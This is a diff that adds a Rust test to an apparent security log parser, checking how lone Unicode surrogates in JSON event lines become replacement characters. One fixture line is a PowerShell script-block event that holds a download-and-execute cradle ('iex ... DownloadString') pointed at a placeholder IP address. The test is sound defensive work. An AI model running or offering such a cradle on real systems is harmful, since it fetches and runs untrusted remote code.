@@ -1088,3 +1088,43 @@ fn issue17_stdin_child() {
     let s = &stats[0];
     println!("stdin child: {} {} {} events", s.path, s.format, s.events);
 }
+
+#[test]
+fn issue17_json_lone_surrogate_becomes_replacement_character() {
+    let dir = tempfile::tempdir().unwrap();
+    let lines = [
+        r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","ScriptBlockText":"iex \ud800(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}"#,
+        r#"{"a":"\udc00x"}"#,
+        r#"{"b":"\\ud800"}"#,
+        r#"{"c":"\ud83d\ude00"}"#,
+        r#"{"d":"\ud800\u0041"}"#,
+        r#"{"e":"\ud800 not closed"#,
+    ];
+    let p = write(
+        dir.path(),
+        "events.json",
+        (lines.join("\n") + "\n").as_bytes(),
+    );
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    let s = &stats[0];
+    assert_eq!(s.format, "json");
+    assert_eq!((s.events, s.unparsed), (5, 1), "{s:?}");
+    assert_eq!(s.unparsed_samples[0].line, 6);
+    assert_eq!(evs[0].logsource.category.as_deref(), Some("ps_script"));
+    assert_eq!(evs[0].origin.position, Position::Line(1));
+    assert_eq!(
+        text(&evs[0], "ScriptBlockText").as_deref(),
+        Some("iex \u{fffd}(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
+    );
+    assert_eq!(text(&evs[1], "a").as_deref(), Some("\u{fffd}x"));
+    assert_eq!(text(&evs[2], "b").as_deref(), Some("\\ud800"));
+    assert_eq!(text(&evs[3], "c").as_deref(), Some("\u{1f600}"));
+    assert_eq!(text(&evs[4], "d").as_deref(), Some("\u{fffd}A"));
+    // In a JSON array too.
+    let p = write(dir.path(), "array.json", br#"[{"u":"\udfff"},{"v":1}]"#);
+    let mut evs = Vec::new();
+    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
+    assert_eq!((stats[0].events, stats[0].unparsed), (2, 0), "{stats:?}");
+    assert_eq!(text(&evs[0], "u").as_deref(), Some("\u{fffd}"));
+}
